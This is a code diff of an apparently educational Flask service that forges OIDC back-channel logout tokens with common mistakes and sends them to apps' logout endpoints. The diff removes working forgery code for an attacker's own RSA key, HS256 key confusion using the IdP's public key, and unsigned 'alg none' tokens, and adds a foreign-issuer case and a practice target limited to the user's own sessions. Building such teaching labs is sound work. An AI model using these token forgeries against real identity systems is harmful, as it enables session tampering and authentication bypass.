@@ -4,20 +4,16 @@ This service has no key of the IdP. It makes the tokens of an attacker itself, a
 with the IdP's signature the browser opens the IdP's console, where an operator has it signed and sent.
 """
 
-import base64
-import hashlib
-import hmac
 import json
-from functools import cache
 from typing import Any, NamedTuple
 
 import jwt
 import requests
-from cryptography.hazmat.primitives.asymmetric import rsa
-from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
 from flask import Response, abort, current_app, jsonify, render_template, request
 
+from pickup_learn import practice
 from pickup_learn.checks import LOGOUT_EVENT
+from pickup_learn.forgery import ISSUER_PATH, MAKERS
 from pickup_web.settings import Settings
 
 TIMEOUT_SECONDS = 5
@@ -40,7 +36,7 @@ class Mistake(NamedTuple):
     key: str = "right"
 
 
-OTHER_APP, SLASH = "other app", "slash"  # for the page's script, which knows the app
+OTHER_APP, SLASH, OWN_ISSUER = "other app", "slash", "own"  # for the page's script, which knows the app
 MISTAKES = (
     Mistake("nothing", "Nothing: a right token"),
     Mistake("event", "event instead of events, as in a tutorial", {"events": None, "event": {LOGOUT_EVENT: {}}}),
@@ -55,6 +51,7 @@ MISTAKES = (
     Mistake("sub-only", "sub without sid: all sessions of the person", {"sid": None}),
     Mistake("type", "The type of another security event", typ="secevent+jwt"),
     Mistake("foreign", "Signed with a foreign key", key="foreign"),
+    Mistake("foreign-issuer", "An issuer of your own, with its key", {"iss": OWN_ISSUER}, key="foreign"),
     Mistake("hs256", "Signed with the public key (HS256)", key="hs256"),
     Mistake("none", "Not signed (alg none)", key="none"),
 )
@@ -63,7 +60,11 @@ CLAIMS = ("iss", "aud", "iat", "exp", "jti", "events", "event", "sub", "sid", "n
 
 def receivers(settings: Settings) -> dict[str, str]:
     """The back-channel logout URL of each app, by its name."""
-    return {"dispatch": f"{settings.dispatch_url}/bclogout", "manager": f"{settings.manager_url}/bclogout"}
+    return {
+        "dispatch": f"{settings.dispatch_url}/bclogout",
+        "manager": f"{settings.manager_url}/bclogout",
+        "practice": f"{settings.learn_url}/practice/bclogout",
+    }
 
 
 def page() -> str:
@@ -76,6 +77,7 @@ def page() -> str:
         claims=CLAIMS,
         receivers=receivers(settings),
         issuer=settings.idp_url,
+        own_issuer=settings.learn_url + ISSUER_PATH,
     )
 
 
@@ -89,10 +91,13 @@ def send() -> Response | tuple[Response, int]:
         claims = None
     if uri is None or key not in MAKERS or not isinstance(claims, dict):
         abort(400)
+    if to == "practice" and not practice.is_own(claims):
+        return jsonify(error="At Practice you can attack only your own sessions. Sign in to it in this browser."), 403
     verify = current_settings().ca_bundle or True
     try:
         keys = requests.get(f"{current_settings().idp_url}/oauth2/jwks", timeout=TIMEOUT_SECONDS, verify=verify).json()
-        token = MAKERS[key]({"typ": request.form.get("typ", "")}, claims, jwt.PyJWKSet.from_dict(keys).keys[0])
+        known = next(one for one in jwt.PyJWKSet.from_dict(keys).keys if one.algorithm_name == "RS256")
+        token = MAKERS[key]({"typ": request.form.get("typ", "")}, claims, known)
         answer = requests.post(
             uri, {"logout_token": token}, timeout=TIMEOUT_SECONDS, verify=verify, allow_redirects=False
         )
@@ -104,39 +109,3 @@ def send() -> Response | tuple[Response, int]:
 def current_settings() -> Settings:
     settings: Settings = current_app.extensions["settings"]
     return settings
-
-
-# --- tokens of an attacker ---
-
-
-@cache
-def foreign_key() -> rsa.RSAPrivateKey:
-    """The attacker's own."""
-    return rsa.generate_private_key(65537, 2048)
-
-
-def foreign(header: dict[str, Any], claims: dict[str, Any], known: jwt.PyJWK) -> str:
-    return jwt.encode(claims, foreign_key(), "RS256", headers={**header, "kid": known.key_id})
-
-
-def hs256(header: dict[str, Any], claims: dict[str, Any], known: jwt.PyJWK) -> str:
-    """By hand, because PyJWT refuses a public key as a secret (RFC 8725 §2.1 describes the attack)."""
-    signed = unsigned({**header, "alg": "HS256", "kid": known.key_id}, claims)
-    secret = known.key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
-    return f"{signed}.{base64url(hmac.digest(secret, signed.encode(), hashlib.sha256))}"
-
-
-def none(header: dict[str, Any], claims: dict[str, Any], _known: jwt.PyJWK) -> str:
-    return unsigned({**header, "alg": "none"}, claims) + "."
-
-
-def unsigned(header: dict[str, Any], claims: dict[str, Any]) -> str:
-    return ".".join(base64url(json.dumps(part).encode()) for part in (header, claims))
-
-
-def base64url(value: bytes) -> str:
-    """RFC 7515 §2: without padding."""
-    return base64.urlsafe_b64encode(value).rstrip(b"=").decode()
-
-
-MAKERS = {"foreign": foreign, "hs256": hs256, "none": none}
